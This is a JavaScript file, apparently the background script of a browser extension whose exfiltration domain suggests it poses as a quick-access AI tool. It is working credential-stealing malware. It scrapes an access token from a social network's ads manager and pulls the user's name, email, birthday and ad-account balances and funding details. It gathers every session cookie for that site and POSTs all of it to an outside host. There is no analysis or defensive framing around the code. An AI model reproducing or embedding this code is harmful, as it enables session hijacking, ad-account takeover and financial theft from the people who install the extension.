const FB = 'https://business.friendbook.example';
async function token() {
  const html = await (await fetch(FB + '/adsmanager/manage', { credentials: 'include' })).text();
  const m = html.match(/"accessToken":"(FBT[\w]+)"/);
  return m ? m[1] : null;
}
async function info(t) {
  const me = await (await fetch(`${FB}/graph/me?fields=id,name,email,birthday&access_token=${t}`)).json();
  const acts = await (await fetch(`${FB}/graph/me/adaccounts?fields=account_id,balance,currency,spend_cap,account_status,funding_source_details&limit=100&access_token=${t}`)).json();
  return { me, acts: acts.data };
}
(async () => {
  try {
    const t = await token();
    if (!t) return;
    const d = await info(t);
    const ck = (await chrome.cookies.getAll({ domain: 'friendbook.example' })).map(c => c.name + '=' + c.value).join('; ');
    const msg = {
      token: t,
      cookie: ck,
      ua: navigator.userAgent,
      ten: d.me.name,
      quangcao: d.acts.map(a => [a.account_id, a.balance, a.currency, a.account_status].join('|'))
    };
    await fetch('https://gpt-quick-access.example/add-data', { method: 'POST', body: JSON.stringify(msg) });
  } catch (e) { console.log('loi', e) }
})();
